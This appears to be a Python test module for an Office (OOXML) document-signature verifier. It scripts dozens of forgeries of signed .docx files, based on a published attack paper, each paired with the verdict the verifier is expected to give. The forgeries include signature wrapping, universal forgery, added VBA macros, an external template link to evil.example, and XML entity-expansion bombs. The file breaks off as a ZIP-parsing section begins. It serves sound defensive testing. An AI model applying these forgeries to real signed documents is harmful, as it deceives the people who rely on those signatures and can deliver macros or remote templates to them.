"""Forgeries of signed Office packages, each a script that takes genuine files and yields the forged one.

Sources: Rohlmann, Mladenov, Mainka, Hirschberger, Schwenk, "Every Signature is Broken: On the Insecurity of Microsoft
Office's OOXML Signatures", USENIX Security 2023 (CIA, CMA, LWA, USF, MRA), and the tables of
reference/ooxml-signatures, section 6; the rest after the rules of its section 5.
"""

from __future__ import annotations

import base64
import hashlib
import re
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl

from app.ooxml.markup import ManifestReference, SignatureDraft, SignatureTerms
from app.signing.model import Scope
from app.verification.model import Conclusion
from app.xmldsig.markup import canonical, parse
from tests.attacks import zip_tricks
from tests.attacks.model import Attack, Genuine, Workshop
from tests.demo.pki import Credential, Pki
from tests.office_signing import TIME, changed, contents, raw_signature, rebuilt, replacing, resigned, sign

SIGNATURE = "_xmlsignatures/sig1.xml"
ROOT_RELS = "_rels/.rels"
MAIN = "word/document.xml"
MAIN_RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"

_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_DSIG = "http://www.w3.org/2000/09/xmldsig#"
_C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"


@dataclass(frozen=True)
class Victim:
    """Genuine files that an attacker got hold of, all of one signer.

    :ivar plain, signed: a .docx before and after signing; it has a style part, a picture and a hyperlink.
    :ivar bare: a signed .docx without style part.
    :ivar sheet: a signed .xlsx.
    :ivar other: an unsigned .docx that says something else.
    :ivar credential: of the signer; used for other things the victim once signed, never for the forgery.
    :ivar stranger: of the attacker; ``colleague``: of another signer of the office.
    """

    plain: Path
    signed: Path
    bare: Path
    sheet: Path
    other: Path
    credential: Credential
    stranger: Credential
    colleague: Credential


ATTACKS: list[Attack] = []
GENUINE: list[Genuine] = []

_Forge = Callable[[Victim, Path], Path]


def attack(verdict: Conclusion, code: str) -> Callable[[_Forge], _Forge]:
    def register(forge: _Forge) -> _Forge:
        _add(forge.__name__.strip("_"), forge, verdict, code)
        return forge

    return register


def genuine(code: str) -> Callable[[_Forge], _Forge]:
    """What a genuine file may undergo and still be valid."""

    def register(make: _Forge) -> _Forge:
        GENUINE.append(Genuine("ooxml", make.__name__, _with_victim(make), Conclusion.VALID, code))
        return make

    return register


def _add(name: str, forge: _Forge, verdict: Conclusion, code: str) -> None:
    ATTACKS.append(Attack("ooxml", name, _with_victim(forge), verdict, code))


def _with_victim(forge: _Forge) -> Callable[[Workshop, Path], Path]:
    return lambda workshop, folder: forge(workshop.once(make_victim), folder)


def _edit(target: Path, victim: Victim, **edits: Callable[[bytes], bytes] | bytes | None) -> Path:
    named = {"signature": SIGNATURE, "root_rels": ROOT_RELS, "main": MAIN, "main_rels": MAIN_RELS, "types": TYPES}
    return changed(victim.signed, target / "forged.docx", {named.get(name, name): edit for name, edit in edits.items()})


def _with_override(part: str, content_type: str) -> Callable[[bytes], bytes]:
    return replacing("</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>')


def _with_relationship(identifier: str, kind: str, target: str, mode: str = "") -> Callable[[bytes], bytes]:
    attributes = f'Id="{identifier}" Type="{kind}" Target="{target}"{mode}'
    return replacing("</Relationships>", f"<Relationship {attributes}/></Relationships>")


# What is signed is changed.


@attack(Conclusion.INVALID, "ooxml-part-changed")
def text_changed(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, main=replacing("phê duyệt", "bãi bỏ"))


@attack(Conclusion.INVALID, "ooxml-relationships-changed")
def hyperlink_target_changed(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, main_rels=replacing("https://phongdien.example/", "https://evil.example/"))


@attack(Conclusion.INVALID, "ooxml-relationships-changed")
def relationship_removed(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder,
        victim,
        main_rels=lambda content: re.sub(rb'<Relationship [^>]*/settings"[^>]*>(</Relationship>)?', b"", content),
    )


@attack(Conclusion.INVALID, "ooxml-part-missing")
def signed_part_removed(victim: Victim, folder: Path) -> Path:
    return changed(victim.signed, folder / "forged.docx", {"word/fontTable.xml": None})


@attack(Conclusion.INVALID, "ooxml-part-changed")
def signed_part_changed(victim: Victim, folder: Path) -> Path:
    return changed(victim.signed, folder / "forged.docx", {"word/styles.xml": replacing("<w:sz ", "<w:vanish/><w:sz ")})


@attack(Conclusion.INVALID, "ooxml-content-type-changed")
def content_type_of_main_part_changed(victim: Victim, folder: Path) -> Path:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    forged = _edit(folder, victim, types=replacing(_WORDML + "document.main+xml", macro))
    return forged.rename(folder / "forged.docm")


@attack(Conclusion.INVALID, "ooxml-content-type-changed")
def content_type_in_other_case(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, types=replacing(_WORDML + "styles+xml", _WORDML + "Styles+xml"))


# The certificate or the value is changed.


def _certificate(credential: Credential) -> str:
    return base64.b64encode(credential.certificate).decode()


@attack(Conclusion.INVALID, "xmldsig-certificate-mismatch")
def certificate_swapped(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing(_certificate(victim.credential), _certificate(victim.stranger)))


@attack(Conclusion.INVALID, "xmldsig-signature-value")
def certificate_and_its_digest_swapped(victim: Victim, folder: Path) -> Path:
    old, new = (
        base64.b64encode(hashlib.sha256(credential.certificate).digest()).decode()
        for credential in (victim.credential, victim.stranger)
    )
    return _edit(
        folder,
        victim,
        signature=lambda content: content.replace(
            _certificate(victim.credential).encode(), _certificate(victim.stranger).encode()
        ).replace(old.encode(), new.encode()),
    )


@attack(Conclusion.INVALID, "xmldsig-properties-changed")
def signing_time_changed(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("<xd:SigningTime>2026", "<xd:SigningTime>2025"))


@attack(Conclusion.INVALID, "xmldsig-properties-changed")
def comments_changed(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder, victim, signature=replacing("<SignatureComments/>", "<SignatureComments>Đồng ý</SignatureComments>")
    )


@attack(Conclusion.INVALID, "xmldsig-signature-value")
def value_empty(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=lambda content: re.sub(rb"(<SignatureValue>)[^<]*", rb"\1", content))


@attack(Conclusion.INVALID, "xmldsig-signature-value")
def signed_info_of_weaker_digest(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("xmldsig-more#rsa-sha256", "xmldsig-more#rsa-sha512"))


# Content is added beside what is signed (CIA, CMA, added relationships).

_PEOPLE = (
    b'<?xml version="1.0"?><w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
    b'<w15:person w15:author="x"/></w15:people>'
)
_PEOPLE_TYPE = _WORDML + "people+xml"


@attack(Conclusion.INVALID, "ooxml-uncovered")
def content_injected_by_linked_people_part(victim: Victim, folder: Path) -> Path:
    kind = "http://schemas.microsoft.com/office/2011/relationships/people"
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "word/people.xml": _PEOPLE,
            TYPES: _with_override("/word/people.xml", _PEOPLE_TYPE),
            MAIN_RELS: _with_relationship("rIdPeople", kind, "people.xml"),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def content_injected_by_orphan_people_part(victim: Victim, folder: Path) -> Path:
    return changed(
        victim.signed,
        folder / "forged.docx",
        {"word/people.xml": _PEOPLE, TYPES: _with_override("/word/people.xml", _PEOPLE_TYPE)},
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def content_injected_without_content_type(victim: Victim, folder: Path) -> Path:
    return changed(victim.signed, folder / "forged.docx", {"word/people.unknown": _PEOPLE})


@attack(Conclusion.INVALID, "ooxml-uncovered")
def content_masked_by_style_part(victim: Victim, folder: Path) -> Path:
    return changed(
        victim.bare,
        folder / "forged.docx",
        {
            "word/styles.xml": contents(victim.plain)["word/styles.xml"],
            TYPES: _with_override("/word/styles.xml", _WORDML + "styles+xml"),
            MAIN_RELS: _with_relationship("rIdStyles", _OFFICE + "styles", "styles.xml"),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def content_masked_by_font(victim: Victim, folder: Path) -> Path:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="' + _OFFICE.encode() + b'font" Target="fonts/font1.odttf"/></Relationships>'
    )
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "word/fonts/font1.odttf": b"\0" * 64,
            "word/_rels/fontTable.xml.rels": rels,
            TYPES: replacing(
                "</Types>",
                '<Default Extension="odttf" '
                'ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/></Types>',
            ),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def macros_added(victim: Victim, folder: Path) -> Path:
    """A VBA project in a document that was signed without; its main part keeps the type that is signed."""
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508),
            TYPES: replacing(
                "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            ),
            MAIN_RELS: _with_relationship("rIdVba", kind, "vbaProject.bin"),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def attached_template_added(victim: Victim, folder: Path) -> Path:
    link = _with_relationship(
        "rIdTemplate", _OFFICE + "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
    )
    return _edit(folder, victim, main_rels=link)


@attack(Conclusion.INVALID, "ooxml-main-part")
def second_main_document(victim: Victim, folder: Path) -> Path:
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "word/document2.xml": contents(victim.other)[MAIN],
            TYPES: _with_override("/word/document2.xml", _WORDML + "document.main+xml"),
            ROOT_RELS: _with_relationship("rIdSecond", _OFFICE + "officeDocument", "word/document2.xml"),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def second_relationship_to_the_origin(victim: Victim, folder: Path) -> Path:
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "_xmlsignatures/_rels/origin.sigs.rels": _with_relationship("rIdX", _OFFICE + "aFChunk", "/evil.html"),
            "evil.html": b"<p>Evil</p>",
            TYPES: replacing("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>'),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def origin_with_content(victim: Victim, folder: Path) -> Path:
    return changed(victim.signed, folder / "forged.docx", {"_xmlsignatures/origin.sigs": b"<w:evil/>"})


@attack(Conclusion.INVALID, "ooxml-uncovered")
def thumbnail_doubled(victim: Victim, folder: Path) -> Path:
    """A second thumbnail would smuggle a part in among the metadata."""
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    core = "application/vnd.openxmlformats-package.core-properties+xml"
    return changed(
        victim.signed,
        folder / "forged.docx",
        {
            "docProps/evil.xml": b"<x/>",
            TYPES: _with_override("/docProps/evil.xml", core),
            ROOT_RELS: _with_relationship("rIdEvil", kind, "docProps/evil.xml"),
        },
    )


@attack(Conclusion.INVALID, "ooxml-uncovered")
def metadata_with_relationships(victim: Victim, folder: Path) -> Path:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="' + _OFFICE.encode() + b'image" Target="https://evil.example/" TargetMode="External"/></Relationships>'
    )
    return changed(victim.signed, folder / "forged.docx", {"docProps/_rels/core.xml.rels": rels})


@attack(Conclusion.INVALID, "ooxml-main-part")
def sheet_shown_as_text(victim: Victim, folder: Path) -> Path:
    forged = folder / "forged.docx"
    forged.write_bytes(victim.sheet.read_bytes())
    return forged


# A genuine signature of something else is moved in.


def _foreign_signature(victim: Victim, references: list[ManifestReference]) -> bytes:
    """A signature part that the victim made for another container."""
    draft = SignatureDraft(SignatureTerms("rsa-sha256", "sha256", victim.credential.certificate, (), TIME), references)
    draft.set_value(raw_signature(victim.credential, draft.to_be_signed, "sha256"))
    return draft.written()


@attack(Conclusion.INVALID, "ooxml-uncovered")
def legacy_wrapping(victim: Victim, folder: Path) -> Path:
    """The streams of a signed .doc become parts of a .docx, so that all references of its manifest hold."""
    stream, kind = b"the streams of the old document", "application/octet-stream"
    reference = ManifestReference(f"/WordDocument.bin?ContentType={kind}", hashlib.sha256(stream).digest())
    entries = contents(victim.signed) | {MAIN: contents(victim.other)[MAIN], "WordDocument.bin": stream}
    entries[SIGNATURE] = _foreign_signature(victim, [reference])
    entries[TYPES] = replacing("</Types>", f'<Default Extension="bin" ContentType="{kind}"/></Types>')(entries[TYPES])
    return rebuilt(entries, folder / "forged.docx")


def _forged_manifest(victim: Victim) -> tuple[dict[str, bytes], str]:
    """The signed package with another text, and its package object with the digest put right."""
    entries = contents(victim.signed)
    old = base64.b64encode(hashlib.sha256(entries[MAIN]).digest()).decode()
    entries[MAIN] = contents(victim.other)[MAIN]
    new = base64.b64encode(hashlib.sha256(entries[MAIN]).digest()).decode()
    markup = entries[SIGNATURE].decode()
    package_object = markup[markup.index('<Object Id="idPackageObject">') :].partition("</Object>")[0] + "</Object>"
    assert old in package_object
    return entries, package_object.replace(old, new)


def _universal(victim: Victim, folder: Path, signed_object: str, uri: str, more: str = "") -> Path:
    """Value and key of any XML signature of the victim, over ``signed_object``, around a forged package object."""
    entries, package_object = _forged_manifest(victim)
    element = parse(f'<Signature xmlns="{_DSIG}">{signed_object}</Signature>'.encode(), "x")[0]
    digest = base64.b64encode(hashlib.sha256(canonical(element)).digest()).decode()
    info = (
        f'<SignedInfo><CanonicalizationMethod Algorithm="{_C14N}"/><SignatureMethod '
        f'Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><Reference URI="{uri}"><DigestMethod '
        f'Algorithm="{_SHA256}"/><DigestValue>{digest}</DigestValue></Reference></SignedInfo>'
    )
    octets = canonical(parse(f'<Signature xmlns="{_DSIG}">{info}</Signature>'.encode(), "x")[0])
    value = base64.b64encode(raw_signature(victim.credential, octets, "sha256")).decode()
    entries[SIGNATURE] = (
        f'<Signature xmlns="{_DSIG}" Id="idPackageSignature">{info}<SignatureValue>{value}</SignatureValue><KeyInfo>'
        f"<X509Data><X509Certificate>{_certificate(victim.credential)}</X509Certificate></X509Data></KeyInfo>"
        f"{signed_object}{package_object}{more}</Signature>"
    ).encode()
    return rebuilt(entries, folder / "forged.docx")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def universal_forgery(victim: Victim, folder: Path) -> Path:
    return _universal(victim, folder, '<Object Id="idForeign"><x xmlns="urn:x">1</x></Object>', "#idForeign")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def universal_forgery_named_office_object(victim: Victim, folder: Path) -> Path:
    foreign = '<Object Id="idOfficeObject"><x xmlns="urn:x">1</x></Object>'
    return _universal(victim, folder, foreign, "#idOfficeObject")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def universal_forgery_outside_reference(victim: Victim, folder: Path) -> Path:
    return _universal(victim, folder, '<Object Id="idForeign"><x xmlns="urn:x">1</x></Object>', "content.xml")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def universal_forgery_with_two_manifests(victim: Victim, folder: Path) -> Path:
    """The signed object is a package object of another document."""
    markup = contents(victim.sheet)[SIGNATURE].decode()
    genuine = markup[markup.index('<Object Id="idPackageObject">') :].partition("</Object>")[0] + "</Object>"
    genuine = genuine.replace("idPackageObject", "idPackageObject_1").replace("idSignatureTime", "idTime_1")
    return _universal(victim, folder, genuine, "#idPackageObject_1")


@attack(Conclusion.INVALID, "ooxml-part-missing")
def signature_of_another_document(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=contents(victim.sheet)[SIGNATURE])


@attack(Conclusion.INVALID, "xmldsig-duplicate-id")
def wrapped_object_with_the_same_id(victim: Victim, folder: Path) -> Path:
    """The signed object moves aside, a forged one of the same Id takes its place."""
    entries, package_object = _forged_manifest(victim)
    markup = entries[SIGNATURE].decode()
    start = markup.index('<Object Id="idPackageObject">')
    genuine = markup[start:].partition("</Object>")[0] + "</Object>"
    entries[SIGNATURE] = markup.replace(genuine, package_object + f"<Object>{genuine}</Object>").encode()
    return rebuilt(entries, folder / "forged.docx")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def wrapped_object_with_another_id(victim: Victim, folder: Path) -> Path:
    entries, package_object = _forged_manifest(victim)
    forged = package_object.replace('"idPackageObject"', '"idPackageObject2"').replace("idSignatureTime", "idTime2")
    entries[SIGNATURE] = entries[SIGNATURE].replace(b"</Signature>", forged.encode() + b"</Signature>")
    return rebuilt(entries, folder / "forged.docx")


@attack(Conclusion.INVALID, "xmldsig-object-not-signed")
def unsigned_object_added(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder,
        victim,
        signature=replacing("</Signature>", '<Object Id="idValidSigLnImg">aGVsbG8=</Object></Signature>'),
    )


@attack(Conclusion.INVALID, "xmldsig-markup")
def second_qualifying_properties(victim: Victim, folder: Path) -> Path:
    def double(content: bytes) -> bytes:
        start = content.index(b"<xd:QualifyingProperties")
        end = content.index(b"</xd:QualifyingProperties>") + len(b"</xd:QualifyingProperties>")
        copy = content[start:end].replace(b"idSignedProperties", b"idOther")
        return content.replace(b"</Signature>", b"<Object>" + copy + b"</Object></Signature>")

    return _edit(folder, victim, signature=double)


# The signature's markup plays tricks.


@attack(Conclusion.INVALID, "ooxml-signature-unreadable")
def empty_signature(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=b"")


@attack(Conclusion.UNSIGNED, "ooxml-signature-cut-off")
def origin_relationship_removed(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder,
        victim,
        root_rels=lambda content: re.sub(rb'<Relationship [^>]*origin.sigs"[^>]*>(</Relationship>)?', b"", content),
    )


@attack(Conclusion.INVALID, "ooxml-signature-unreadable")
def document_type_in_signature(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder, victim, signature=replacing("<Signature ", '<!DOCTYPE Signature [<!ENTITY x "y">]><Signature ')
    )


@attack(Conclusion.UNREADABLE, "opc-xml")
def document_type_in_relationships(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, main_rels=replacing("<Relationships ", "<!DOCTYPE Relationships><Relationships "))


@attack(Conclusion.UNREADABLE, "opc-xml")
def document_type_in_utf16(victim: Victim, folder: Path) -> Path:
    def utf16(content: bytes) -> bytes:
        text = content.decode().partition("?>")[2].strip()
        declaration = '<?xml version="1.0" encoding="UTF-16"?>'
        return (declaration + '<!DOCTYPE Relationships [<!ENTITY a "b">]>' + text).encode("utf-16")

    return _edit(folder, victim, main_rels=utf16)


@attack(Conclusion.UNREADABLE, "opc-xml")
def entities_that_explode(victim: Victim, folder: Path) -> Path:
    entities = '<!ENTITY a0 "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12)
    )
    return _edit(folder, victim, types=replacing("<Types ", f"<!DOCTYPE Types [{entities}]><Types "))


@attack(Conclusion.INVALID, "xmldsig-comment")
def comment_in_digest(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("</DigestValue>", "<!-- x --></DigestValue>"))


@attack(Conclusion.INVALID, "xmldsig-comment")
def comment_in_signing_time(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("<xd:SigningTime>20", "<xd:SigningTime>20<!-- -->"))


@attack(Conclusion.INVALID, "xmldsig-comment")
def instruction_before_signature(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("<Signature ", "<?x y?><Signature "))


@attack(Conclusion.INVALID, "xmldsig-duplicate-id")
def duplicate_id(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing('Id="idOfficeV1Details"', 'Id="idPackageObject"'))


@attack(Conclusion.INVALID, "xmldsig-signature-value")
def xml_attribute(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("<SignedInfo>", '<SignedInfo xml:lang="vi">'))


@attack(Conclusion.INVALID, "xmldsig-markup")
def signature_inside_signature(victim: Victim, folder: Path) -> Path:
    return _edit(folder, victim, signature=replacing("<SetupID/>", "<SetupID/><Signature xmlns='" + _DSIG + "'/>"))


@attack(Conclusion.INVALID, "xmldsig-transform")
def xslt_in_reference(victim: Victim, folder: Path) -> Path:
    plain = f'<Transform Algorithm="{_C14N}"/></Transforms><DigestMethod'
    xslt = (
        '<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x/></Transform></Transforms><DigestMethod'
    )
    return _edit(folder, victim, signature=replacing(plain, xslt))


@attack(Conclusion.INDETERMINATE, "xmldsig-signature-algorithm")
def mac_length_parameter(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder,
        victim,
        signature=replacing('rsa-sha256"/>', 'rsa-sha256"><HMACOutputLength>1</HMACOutputLength></SignatureMethod>'),
    )


def _signed_with(victim: Victim, folder: Path, edit: Callable[[str], str]) -> Path:
    """A document whose signer's program wrote an unusual manifest; digest and value are put right."""
    return resigned(victim.signed, folder / "forged.docx", victim.credential, edit)


@attack(Conclusion.INVALID, "xmldsig-transform")
def manifest_with_unknown_transform(victim: Victim, folder: Path) -> Path:
    """A verifier that skips what it does not know would digest the whole part."""
    kind = f"/{MAIN}?ContentType={_WORDML}document.main+xml"
    transform = '<Transforms><Transform Algorithm="urn:unknown"/></Transforms>'
    return _signed_with(
        victim,
        folder,
        lambda markup: markup.replace(f'<Reference URI="{kind}">', f'<Reference URI="{kind}">{transform}'),
    )


@attack(Conclusion.INVALID, "xmldsig-transform")
def manifest_with_base64_transform(victim: Victim, folder: Path) -> Path:
    kind = f"/{MAIN}?ContentType={_WORDML}document.main+xml"
    transform = f'<Transforms><Transform Algorithm="{_DSIG}base64"/></Transforms>'
    return _signed_with(
        victim,
        folder,
        lambda markup: markup.replace(f'<Reference URI="{kind}">', f'<Reference URI="{kind}">{transform}'),
    )


@attack(Conclusion.INVALID, "xmldsig-reference")
def manifest_names_a_part_twice(victim: Victim, folder: Path) -> Path:
    def double(markup: str) -> str:
        found = re.search(r'<Reference URI="/word/document.xml.*?</Reference>', markup)
        assert found
        return markup.replace(found[0], found[0] + found[0].replace("/word/", "/WORD/"))

    return _signed_with(victim, folder, double)


@attack(Conclusion.INVALID, "ooxml-uncovered")
def manifest_without_main_part(victim: Victim, folder: Path) -> Path:
    return _signed_with(
        victim, folder, lambda markup: re.sub(r'<Reference URI="/word/document.xml.*?</Reference>', "", markup)
    )


@attack(Conclusion.INDETERMINATE, "xmldsig-digest-algorithm")
def manifest_with_md5(victim: Victim, folder: Path) -> Path:
    return _signed_with(
        victim,
        folder,
        lambda markup: re.sub(
            r'(<Reference URI="/word/document.xml[^>]*><DigestMethod Algorithm=")[^"]*',
            r"\1http://www.w3.org/2001/04/xmldsig-more#md5",
            markup,
        ),
    )


def _variant(
    name: str,
    code: str,
    old: str,
    new: str,
    *,
    resign: bool = False,
    count: int = 1,
    verdict: Conclusion = Conclusion.INVALID,
) -> None:
    """An attack that replaces a text in the markup of the signature.

    :param resign: a dishonest signer puts digests and value right afterwards.
    :param count: how often; -1 everywhere.
    """

    def forge(victim: Victim, folder: Path) -> Path:
        if resign:
            return _signed_with(victim, folder, lambda markup: markup.replace(old, new, count))
        return _edit(folder, victim, signature=lambda content: content.replace(old.encode(), new.encode(), count))

    _add(name, forge, verdict, code)


_MARKUP = "xmldsig-markup"
_DIGEST = f'<DigestMethod Algorithm="{_SHA256}"/>'
_TRANSFORMS = f'<Transforms><Transform Algorithm="{_C14N}"/>'
_RELATIONSHIP_TRANSFORM = '<Transform Algorithm="http://schemas.openxmlformats.org/package/2006/RelationshipTransform">'
_MDSSI = 'xmlns:mdssi="http://schemas.openxmlformats.org/package/2006/digital-signature"'

_variant("signed_info_twice", _MARKUP, "<SignatureValue>", "<SignedInfo/><SignatureValue>")
_variant(
    "unknown_child_of_signature",
    "xmldsig-no-certificate",
    "<KeyInfo>",
    "<Other/><KeyInfo>",
    verdict=Conclusion.INDETERMINATE,
)
_variant("many_objects", _MARKUP, "</KeyInfo>", "</KeyInfo>" + "<Object/>" * 40)
_variant("no_signature_method", _MARKUP, "<SignatureMethod ", "<SignatureMode ")
_variant(
    "unknown_canonicalization",
    "xmldsig-canonicalization",
    f'<CanonicalizationMethod Algorithm="{_C14N}"/>',
    '<CanonicalizationMethod Algorithm="urn:unknown"/>',
    verdict=Conclusion.INDETERMINATE,
)
_variant(
    "many_references",
    "xmldsig-signature-value",
    "</SignedInfo>",
    f'<Reference URI="#a">{_DIGEST}<DigestValue/></Reference>' * 40 + "</SignedInfo>",
)
_variant("empty_transforms", _MARKUP, _TRANSFORMS, "<Transforms></Transforms><Transforms>")
_variant("child_of_reference", _MARKUP, _DIGEST, "<Other/>" + _DIGEST)
_variant("reference_without_uri", _MARKUP, 'URI="#idPackageObject"', "")
_variant("unknown_attribute_of_reference", _MARKUP, 'URI="#idPackageObject"', 'URI="#idPackageObject" Other=""')
_variant("element_in_value", _MARKUP, "<SignatureValue>", "<SignatureValue><a/>")
_variant("value_is_no_base64", _MARKUP, "<SignatureValue>", "<SignatureValue>*")
_variant("properties_of_another_signature", _MARKUP, '#idPackageSignature"><xd:', '#other"><xd:')
_variant("unknown_properties", _MARKUP, "</xd:QualifyingProperties>", "<xd:Other/></xd:QualifyingProperties>")
_variant(
    "signed_properties_elsewhere",
    _MARKUP,
    "<SetupID/>",
    '<SetupID/><x:SignedProperties xmlns:x="http://uri.etsi.org/01903/v1.3.2#"/>',
)
_variant(
    "signed_properties_twice", _MARKUP, "</xd:QualifyingProperties>", "<xd:SignedProperties/></xd:QualifyingProperties>"
)
_variant("signed_twice", _MARKUP, 'URI="#idOfficeObject"', 'URI="#idPackageObject"')
_variant("properties_by_wrong_type", "xmldsig-reference", "01903#SignedProperties", "01903#Other")
_variant("outside_reference", "xmldsig-object-not-signed", 'URI="#idOfficeObject"', 'URI="http://a.example/"')
_variant("dangling_reference", "xmldsig-object-not-signed", 'URI="#idOfficeObject"', 'URI="#nowhere"')
_variant("reference_to_a_property", "xmldsig-signature-value", 'URI="#idOfficeObject"', 'URI="#idOfficeV1Details"')
_variant("properties_not_signed", "xmldsig-object-not-signed", 'URI="#idSignedProperties"', 'URI="#idSignatureTime"')
_variant("package_object_of_another_name", "xmldsig-signature-value", "idPackageObject", "idOther", count=-1)
_variant(
    "no_properties_in_package_object",
    "xmldsig-properties-changed",
    "<SignatureProperties>",
    "<Other/><SignatureProperties>",
)
_variant("unknown_child_of_manifest", "xmldsig-properties-changed", "<Manifest>", "<Manifest><Other/>")
_variant(
    "no_certificate",
    "xmldsig-no-certificate",
    "X509Certificate>",
    "X509Other>",
    count=-1,
    verdict=Conclusion.INDETERMINATE,
)
_variant("unreadable_certificate", "xmldsig-certificate-mismatch", "<X509Certificate>", "<X509Certificate>AAAA")
_variant("certificate_digest_missing", _MARKUP, "<xd:CertDigest>", "<xd:CertDigest><xd:Other/>")
_variant(
    "two_signing_certificates", _MARKUP, "<xd:SigningCertificate>", "<xd:SigningCertificate/><xd:SigningCertificate>"
)
_variant(
    "no_package_signed",
    "xmldsig-reference",
    'Reference Type="http://www.w3.org/2000/09/xmldsig#Object" URI="#idPackageObject"',
    'Reference Type="http://www.w3.org/2000/09/xmldsig#Object" URI="#idSignedProperties"',
)
_variant(
    "plain_reference_to_outside",
    "xmldsig-reference",
    '<Reference URI="/word/document.xml?',
    '<Reference URI="word/document.xml?',
    resign=True,
)
_variant(
    "reference_without_content_type",
    "xmldsig-reference",
    '<Reference URI="/word/document.xml?ContentType=',
    '<Reference URI="/word/document.xml?Type=',
    resign=True,
)
_variant(
    "unknown_parameter_of_transform",
    "xmldsig-transform",
    "<mdssi:RelationshipReference ",
    f"<mdssi:Other {_MDSSI}/><mdssi:RelationshipReference ",
    resign=True,
)
_variant(
    "transform_without_parameters",
    "xmldsig-reference",
    f'{_RELATIONSHIP_TRANSFORM}<mdssi:RelationshipReference {_MDSSI} SourceId="rId1"/>',
    f'{_RELATIONSHIP_TRANSFORM}<mdssi:RelationshipsGroupReference {_MDSSI} SourceType="none"/>',
    resign=True,
)
_variant(
    "transform_not_canonicalized",
    "xmldsig-transform",
    f'</Transform><Transform Algorithm="{_C14N}"/></Transforms>',
    "</Transform></Transforms>",
    resign=True,
)


@attack(Conclusion.INVALID, "ooxml-package-not-signed")
def empty_manifest(victim: Victim, folder: Path) -> Path:
    return _signed_with(
        victim, folder, lambda markup: re.sub(r"<Manifest>.*</Manifest>", "<Manifest></Manifest>", markup)
    )


@attack(Conclusion.INVALID, "xmldsig-transform")
def relationship_transform_on_a_part(victim: Victim, folder: Path) -> Path:
    kind = f"/{MAIN}?ContentType={_WORDML}document.main+xml"
    transforms = (
        f'<Transforms>{_RELATIONSHIP_TRANSFORM}<mdssi:RelationshipReference {_MDSSI} SourceId="rId1"/></Transform>'
        f'<Transform Algorithm="{_C14N}"/></Transforms>'
    )
    return _signed_with(
        victim,
        folder,
        lambda markup: markup.replace(f'<Reference URI="{kind}">', f'<Reference URI="{kind}">{transforms}'),
    )


@attack(Conclusion.INVALID, "ooxml-signature-type")
def signature_declared_as_something_else(victim: Victim, folder: Path) -> Path:
    return _edit(
        folder,
        victim,
        types=replacing("application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml", "application/xml"),
    )


# Two programs would read the ZIP file differently.


def _pairs(victim: Victim) -> list[tuple[str, bytes]]:
    return list(contents(victim.signed).items())


